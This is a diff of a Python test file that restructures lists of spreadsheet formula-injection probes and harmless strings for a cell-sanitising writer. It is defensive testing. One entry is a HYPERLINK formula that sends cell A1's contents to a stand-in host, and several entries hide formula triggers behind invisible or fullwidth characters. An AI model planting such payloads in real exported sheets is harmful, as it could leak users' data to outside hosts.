@@ -18,27 +18,9 @@ from eyetest.tabular.record_files import write_records
 from eyetest.tabular.sheets import GUARDED, SheetWriter, inert, restored, restored_row
 
 COMPUTED = [
-    '=HYPERLINK("http://x.invalid/?"&A1)',
-    "+1+1",
-    "-2+3",
-    "@SUM(A1)",
-    "\t=1",
-    "\r=1",
-    "\n@x",
-    "  =1",
-    '"=1',
-    "'=1",
-    "''=1",
-    "\ufeff=1",
-    "\u00a0+1",
-    "\u200b=1",
-    "＝1+1",
-    " －1",
-    "＋1",
-    "＠x",
-    "-0.5",
-    "\t",
-    "'\n",
+    *(f"{lead}=1" for lead in ("", "\t", "\r", "  ", '"', "'", "''", "\ufeff", "\u200b")),
+    *('=HYPERLINK("http://x.invalid/?"&A1)', "+1+1", "-2+3", "@SUM(A1)", "\n@x", "\u00a0+1", "-0.5", "\t", "'\n"),
+    *("＝1+1", " －1", "＋1", "＠x"),
 ]
 HARMLESS = ["a=1", "A. -5", "5", "0.5", "'quoted'", '"quoted"', "", "{}", "π", "'", "x\n=1", "– dash"]
 
